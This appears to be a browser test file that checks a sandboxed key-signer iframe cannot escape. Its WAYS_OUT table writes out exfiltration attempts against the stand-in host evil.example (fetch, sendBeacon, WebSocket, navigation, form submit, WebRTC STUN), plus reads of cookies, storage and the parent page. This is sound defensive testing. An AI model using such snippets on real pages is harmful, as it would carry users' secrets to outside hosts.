/** The signer's frame in a browser: a document apart, which reaches nothing, and what is said where it cannot be had. docs/security.md 5 */
import { underAttack } from '../src/testing/attack.ts';
import { createHost } from '../tools/host.ts';
import { dist, expect, test } from './fixtures.ts';
import { NOWHERE } from './nowhere.ts';

/** What a script in the frame would try, to carry a key away or to reach for the page. Each must throw, reject or fail to load. */
const WAYS_OUT: Readonly<Record<string, string>> = {
  'a request home': `return fetch('/config.json')`,
  'a request to a stranger': `return fetch('https://evil.example/leak', { mode: 'no-cors' })`,
  'a socket': `return new Promise((ok, no) => { const s = new WebSocket('wss://evil.example'); s.onopen = ok; s.onerror = no })`,
  'a picture': `return new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = '/brand/orrery.svg' })`,
  'a beacon': `if (!navigator.sendBeacon('https://evil.example/leak', 'key')) throw 1; return new Promise((_, no) => setTimeout(no, 200))`,
  'the storage of the page': `return localStorage.length`,
  'a database': `return new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no })`,
  'a cookie': `document.cookie = 'key=1'; return document.cookie`,
  'the page': `return parent.document.body`,
  'the page’s address': `top.location.href = 'https://evil.example/?key'; return new Promise((_, no) => setTimeout(no, 200))`,
  'a window of its own': `if (open('https://evil.example/?key') === null) throw 1`,
  'a peer connection': `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example' }] }); c.createDataChannel('x'); await c.setLocalDescription()`,
  'a frame in it': `return new Promise((ok, no) => { const f = document.createElement('iframe'); addEventListener('securitypolicyviolation', no); f.src = 'https://evil.example/?key'; f.onload = () => setTimeout(ok, 300); document.body.append(f) })`,
  'a form': `const f = document.createElement('form'); f.action = 'https://evil.example'; document.body.append(f); f.submit(); return new Promise((_, no) => setTimeout(no, 200))`,
  'another script': `const s = document.createElement('script'); globalThis.ran = false; s.text = 'ran = true'; document.body.append(s); if (!ran) throw 1`,
  'text as code': `return new Function('return 1')()`,
  'another worker': `return new Worker(URL.createObjectURL(new Blob(['1'])))`,
};

test('reaches nothing from inside', { tag: '@attack' }, async ({ page, noise }) => {
  noise.expect(/./);
  await using pages = await createHost({ dist, config: NOWHERE, port: 0 });
  const functions = Object.entries(WAYS_OUT).map(
    ([name, body]) => `globalThis[${JSON.stringify(`try ${name}`)}] = async () => { ${body} };`,
  );
  await page.addInitScript(`if (self !== top) { ${functions.join('\n')} }`);
  await page.goto(pages.url);
  await page.getByRole('link', { name: /Create a new key/ }).click();
  await page.getByRole('button', { name: 'Create key' }).click();
  await expect(page.frameLocator('iframe').getByRole('dialog')).toBeVisible();
  const frame = page.frames().find((one) => one.url().endsWith('/signer.html'))!;
  expect(await frame.evaluate(() => origin)).toBe('null');
  await underAttack({ line: 5, what: 'ways out of the signer’s frame' }, Object.keys(WAYS_OUT), (name) =>
    frame.evaluate(async (which) => {
      try {
        await new Promise((done) => setTimeout(done, 0)).then(
          (globalThis as unknown as Record<string, () => unknown>)[`try ${which}`],
        );
        return false;
      } catch {
        return true;
      }
    }, name),
  );
  expect(page.url()).toContain(pages.url);
  await page.frameLocator('iframe').getByRole('button', { name: 'Cancel' }).first().click();
  await expect(page.getByRole('button', { name: 'Create key' })).toBeFocused();
});

test('that a host lacks is told in words', async ({ page, noise }) => {
  noise.expect(/./);
  await using pages = await createHost({ dist, config: NOWHERE, port: 0 });
  await page.route('**/signer.html', (route) => route.fulfill({ status: 404, body: 'Not found' }));
  await page.goto(pages.url);
  await page.getByRole('link', { name: /Create a new key/ }).click();
  await page.getByRole('button', { name: 'Create key' }).click();
  await expect(page.getByText('The secure window of this page couldn’t be opened.')).toBeVisible();
});
